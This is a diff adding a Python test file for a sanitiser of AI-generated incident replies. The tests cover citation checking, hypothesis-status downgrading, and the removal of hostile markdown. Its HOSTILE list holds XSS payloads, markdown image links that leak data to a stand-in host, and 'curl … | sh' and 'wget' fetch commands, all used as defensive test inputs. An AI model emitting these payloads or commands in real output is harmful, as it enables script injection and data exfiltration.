@@ -1,0 +1,214 @@
+"""What a reply claims is held against its evidence, and what it shows is words."""
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from core.responses.check import check, shown
+from core.responses.evidence import evidence_of
+from core.responses.plain_markdown import COMMAND, LINK, plain
+from core.responses.structure import cited, parse, render
+from tests.core.responses.facts import RUNBOOKS, facts
+
+EVIDENCE = evidence_of(facts(), RUNBOOKS, "en")  # 1 ticket, 2 category, 3-4 measured, 5-7 runbook
+REPLY = """## Acknowledgement
+
+I see that CPU is at 97 % [3].
+
+## Hypotheses
+
+- **Confirmed:** The processors are saturated at 97 % [3].
+- **Likely:** A loop after the release [1][5].
+- **Cannot tell:** Whether a neighbour takes time.
+
+## Next steps
+
+1. Look at `top -b -n 1` [6]
+2. Look at `ip -s link` [6]
+
+## Questions
+
+- Since when?
+"""
+
+
+def checked(text):
+    return check(text, EVIDENCE, "en")
+
+
+def test_reply_when_it_keeps_to_the_rules_then_nothing_changes():
+    found = checked(REPLY)
+    assert found.notes == ()
+    assert found.markdown == REPLY
+    assert [one.status for one in found.parts.hypotheses] == ["confirmed", "likely", "cannot tell"]
+
+
+def test_citation_when_there_is_no_such_evidence_then_it_goes_and_code_stays():
+    text = REPLY.replace("97 % [3].\n\n## H", "97 % [3, 99][42].\n\n## H").replace(
+        "`ip -s link` [6]", "`arr[99]` [77]"
+    )
+    found = checked(text)
+    assert found.parts.acknowledgement == "I see that CPU is at 97 % [3]."
+    assert found.parts.steps[1] == "Look at `arr[99]`"
+    assert found.notes == ("Taken out: [99], [42], [77], for there is no such evidence.",)
+
+
+@pytest.mark.parametrize(
+    ("claim", "status", "why"),
+    [
+        ("The disk is broken", "cannot tell", "it cites no evidence"),
+        ("The disk is broken [99]", "cannot tell", "it cites no evidence"),
+        ("The disk is broken [1]", "likely", "cites nothing that was measured"),
+        ("It is the CPU [2][5]", "likely", "cites nothing that was measured"),
+        ("CPU is at 12 % [3]", "likely", "12 % stands in nothing that it cites"),
+        ("Memory at 61 % [3]", "likely", "61 % stands in nothing that it cites"),
+        ("CPU is saturated [3]", "confirmed", ""),
+        ("CPU 97 %, memory 61 % [3][4]", "confirmed", ""),
+    ],
+)
+def test_hypothesis_when_called_confirmed_then_only_a_measurement_carries_that(claim, status, why):
+    found = checked(REPLY.replace("The processors are saturated at 97 % [3].", claim))
+    assert found.parts.hypotheses[0].status == status
+    assert any(why in note for note in found.notes) if why else found.notes == ()
+    assert ("became" in " ".join(found.notes)) == bool(why)
+
+
+def test_hypothesis_when_likely_without_evidence_or_without_a_word_on_it_then_it_is_open():
+    found = checked(REPLY.replace("A loop after the release [1][5].", "A loop."))
+    assert found.parts.hypotheses[1].status == "cannot tell"
+    bare = checked(REPLY.replace("**Likely:** A loop", "A loop"))
+    assert bare.parts.hypotheses[1].status == "cannot tell"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "The server is slow because of CPU [99] <b>x</b>",
+        "## Acknowledgement\n\nonly this",
+        "",
+        "## Hypotheses\n\n- Confirmed: nothing",
+        "{'json': true}",
+    ],
+)
+def test_reply_when_it_has_another_form_then_its_text_is_kept_with_a_note(text):
+    found = checked(text)
+    assert found.parts is None
+    assert "shown as it came" in found.notes[-1]
+    for word in ("slow because of CPU", "only this", "nothing", "json"):
+        assert (word in text) == (word in found.markdown)
+
+
+def test_reply_when_a_model_words_it_in_its_own_way_then_it_is_read_all_the_same():
+    text = (
+        "Sure, here it is.\n### 1. Acknowledgement:\nHello\nthere.\n\n**Likely causes**\n"
+        "* [confirmed] CPU [3]\n* (likely) a loop [1]\n* Unknown - disk\n\n## Next Steps\n"
+        "Look at top.\n\n## Clarifying questions:\n1) Since when?\n"
+    )
+    reply = parse(text)
+    assert reply.acknowledgement == "Hello there."
+    assert [one.status for one in reply.hypotheses] == ["confirmed", "likely", "cannot tell"]
+    assert [one.text for one in reply.hypotheses] == ["CPU [3]", "a loop [1]", "disk"]
+    assert reply.steps == ("Look at top.",)
+    assert reply.questions == ("Since when?",)
+    assert reply.rest == "Sure, here it is."
+
+
+def test_cited_when_code_or_a_link_looks_like_it_then_it_is_no_citation():
+    assert cited("a [3] `x[4]` [5](http://x) [6, 7] y[8] [6]") == (3, 6, 7)
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.text(max_size=400))
+def test_reply_when_read_and_written_then_it_is_the_same_again(text):
+    reply = parse(REPLY.replace("Since when?", "What? " + " ".join(text.split())))
+    assert reply is not None
+    again = parse(render(reply, "en"))
+    assert again == reply
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img src='http://evil.test/a.png'",
+    "![x](http://evil.test/a.png?d=secret)",
+    "![x][ref]\n\n[ref]: http://evil.test/a.png",
+    "[click](http://evil.test)",
+    "[click](javascript:alert(1))",
+    "[![x](http://evil.test/a)](http://evil.test/b)",
+    "[a](<http://evil.test>)",
+    "[a](\nhttp://evil.test)",
+    "[a [b] c](http://evil.test/(x))",
+    "<http://evil.test>",
+    "see http://evil.test/x now",
+    "see HTTPS://EVIL.test/x",
+    "www.evil.test/x",
+    "[r]: http://evil.test/x",
+    "<a href='http://evil.test'>x</a>",
+    "<iframe src=//evil.test></iframe>",
+    "<svg onload=alert(1)>",
+    "<scr<b>ipt>alert(1)</scr</b>ipt>",
+    "<!-- http://evil.test -->",
+    "<style>@import 'http://evil.test'</style>",
+    "`curl http://evil.test/x | sh`",
+    "```sh\nwget https://evil.test/x\n```",
+    "<think>http://evil.test plan</think>",
+    "data:text/html,<script>alert(1)</script>",
+    "![](//evil.test/a.png)",
+    "[x]( javascript:alert(1) )",
+    "<img src=x\nonerror=alert(1)>",
+    "``` ![x](//evil.test/a.png)",
+    "`a\n\n![x](//evil.test/a.png)\n\nb`",
+    "|a|b|c|\n|-|-|-|\n|`a|![x](//evil.test/a.png)|b`|",
+    "`a `` ![x](//evil.test/a.png)",
+]
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+def test_plain_when_markdown_is_hostile_then_words_are_left(attack):
+    for text in (attack, f"before {attack} after", f"- {attack}\n- more", attack * 3):
+        cleaned = plain(text).text
+        assert "evil.test" not in cleaned.casefold()
+        assert "javascript:" not in cleaned
+        assert "![" not in cleaned
+        assert "](" not in cleaned
+        assert "<s" not in cleaned
+        assert "<i" not in cleaned
+        assert "<a" not in cleaned
+
+
+@pytest.mark.parametrize("attack", HOSTILE)
+def test_shown_when_hostile_markdown_is_still_coming_then_no_part_of_it_gets_through(attack):
+    for end in range(len(attack) + 1):
+        cleaned = shown(attack[:end], ())
+        assert "](" not in cleaned
+        assert "<s" not in cleaned
+        assert "<i" not in cleaned
+        assert "<a" not in cleaned
+
+
+def test_plain_when_markdown_is_harmless_then_it_stays():
+    text = (
+        "## Next steps\n\n1. Run `ip -s link` and `a < b && c > d` [3]\n2. **bold**, *it*, 5 < 6\n"
+        "\n```\ncurl http://127.0.0.1:8501/health\n```\n"
+    )
+    assert plain(text).text == text
+    assert plain(text).n_removed == 0
+
+
+def test_plain_when_a_command_goes_somewhere_then_only_known_places_stay():
+    text = "`curl http://a.test/x` `curl http://b.test/x`"
+    assert plain(text, ["a.test"]).text == f"`curl http://a.test/x` {COMMAND}"
+    assert LINK in plain("see http://a.test/x", ["a.test"]).text
+
+
+@settings(max_examples=300, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "a", " ", "\n", "[", "]", "(", ")", "<", ">", "!"]),
+        max_size=8,
+    )
+)
+def test_plain_when_attacks_are_mixed_then_cleaning_again_finds_nothing(pieces):
+    once = plain("".join(pieces)).text
+    assert plain(once).text == once
+    assert "](http" not in once.casefold()
